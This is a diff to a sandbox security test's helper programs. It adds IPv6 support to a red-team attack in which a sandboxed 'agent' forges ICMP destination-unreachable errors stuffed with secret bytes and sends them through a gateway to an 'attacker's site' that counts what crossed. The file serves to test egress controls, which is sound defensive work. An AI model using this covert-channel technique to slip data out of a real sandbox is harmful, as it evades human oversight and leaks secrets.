@@ -1,9 +1,9 @@
 """Programs of the second red team's ICMP module (tests/security/test_redteam_icmp_related.py).
 
-The attacker's site (`site_main`, internet namespace, on an allowed name's address and port): answers every HTTP
+The attacker's site (`site_main`, internet namespace, on an allowed name's addresses and port): answers every HTTP
 request with the TCP port it sees the request come from (the gateway's proxy's upstream connection), keep-alive;
-and a raw ICMP receiver on the same host logs every ICMP error that arrives with how many bytes of the secret it
-carries (``icmp type T from SRC: N secret bytes``): ground truth of what crossed.
+and raw ICMP and ICMPv6 receivers on the same host log every ICMP error that arrives with how many bytes of the
+secret it carries (``icmp type T from SRC: N secret bytes``): ground truth of what crossed.
 
 The agent (`related_main`, sandbox namespace): resolves the name, opens a connection to the site through the
 gateway and asks it the proxy's source port; then, while that connection is open, sends ICMP destination
@@ -45,21 +45,36 @@ def quoted_error(inner_src: str, sport: int, inner_dst: str, dport: int, data: b
     return message[:2] + struct.pack("!H", _checksum(message)) + message[4:]
 
 
+def quoted_error6(inner_src: str, sport: int, inner_dst: str, dport: int, data: bytes) -> bytes:
+    """The ICMPv6 form (destination unreachable, port unreachable); the kernel fills in the checksum."""
+    segment = struct.pack("!HHIIBBHHH", sport, dport, 1, 0, 5 << 4, 0x18, 1000, 0, 0) + data
+    header = struct.pack("!IHBB", 6 << 28, len(segment), 6, 64)
+    header += socket.inet_pton(socket.AF_INET6, inner_src) + socket.inet_pton(socket.AF_INET6, inner_dst)
+    return struct.pack("!BBHI", 1, 4, 0, 0) + header + segment
+
+
 def site_main() -> None:
-    """``python -c '...site_main()' ADDRESS PORT``: the attacker's site and its ICMP receiver."""
-    address, port = sys.argv[1], int(sys.argv[2])
-    threading.Thread(target=_icmp_receiver, daemon=True).start()
-    listener = socket.socket()
-    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-    listener.bind((address, port))
-    listener.listen(16)
+    """``python -c '...site_main()' PORT ADDRESS...``: the attacker's site and its ICMP receivers (v4 and v6)."""
+    port = int(sys.argv[1])
+    threading.Thread(target=_icmp_receiver, args=(socket.AF_INET,), daemon=True).start()
+    threading.Thread(target=_icmp_receiver, args=(socket.AF_INET6,), daemon=True).start()
+    for address in sys.argv[2:]:
+        listener = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
+        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        listener.bind((address, port))
+        listener.listen(16)
+        threading.Thread(target=_accept, args=(listener,), daemon=True).start()
     print("listening", flush=True)
+    threading.Event().wait()
+
+
+def _accept(listener: socket.socket) -> None:
     while True:
         conn, peer = listener.accept()
         threading.Thread(target=_answer_port, args=(conn, peer), daemon=True).start()
 
 
-def _answer_port(conn: socket.socket, peer: tuple[str, int]) -> None:
+def _answer_port(conn: socket.socket, peer: tuple[str, int, int, int] | tuple[str, int]) -> None:
     with conn:
         buf = b""
         while True:
@@ -74,13 +89,13 @@ def _answer_port(conn: socket.socket, peer: tuple[str, int]) -> None:
                 print(f"asked by {peer[0]}:{peer[1]}", flush=True)
 
 
-def _icmp_receiver() -> None:
-    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+def _icmp_receiver(family: socket.AddressFamily) -> None:
+    six = family == socket.AF_INET6
+    raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_ICMPV6 if six else socket.IPPROTO_ICMP)
     while True:
         packet, peer = raw.recvfrom(65535)
-        header = (packet[0] & 0x0F) * 4
-        kind = packet[header]
-        if kind in (3, 11, 12):
+        kind = packet[0] if six else packet[(packet[0] & 0x0F) * 4]  # a raw IPv6 socket gets no IP header
+        if kind in ((1, 2, 3, 4) if six else (3, 11, 12)):
             secret = packet.count(MARK) * len(MARK)
             print(f"icmp type {kind} from {peer[0]}: {len(packet)} bytes, {secret} secret bytes", flush=True)
 
@@ -93,15 +108,18 @@ def related_main() -> None:
     site, port, messages = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
     offset = int(sys.argv[4]) if len(sys.argv) > 4 else 0
     chunk = int(sys.argv[5]) if len(sys.argv) > 5 else CHUNK
+    six = ":" in site
     with socket.create_connection((site, port), timeout=5) as conn:
         conn.sendall(b"GET /port HTTP/1.1\r\nHost: allowed.lab\r\n\r\n")
         answer = conn.recv(4096)
         seen_from, seen_port = answer.split(b"\r\n\r\n", 1)[1].decode().split()
         print(f"the site sees {seen_from}:{seen_port}", flush=True)
         secret = (MARK * (chunk // len(MARK) + 1))[:chunk]
-        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+        family = socket.AF_INET6 if six else socket.AF_INET
+        raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_ICMPV6 if six else socket.IPPROTO_ICMP)
+        quote = quoted_error6 if six else quoted_error
         for _ in range(messages):
-            raw.sendto(quoted_error(site, port, seen_from, int(seen_port) + offset, secret), (site, 0))
+            raw.sendto(quote(site, port, seen_from, int(seen_port) + offset, secret), (site, 0))
             time.sleep(0.01)
         print(f"sent {messages} errors of {chunk} chosen bytes", flush=True)
         time.sleep(1)
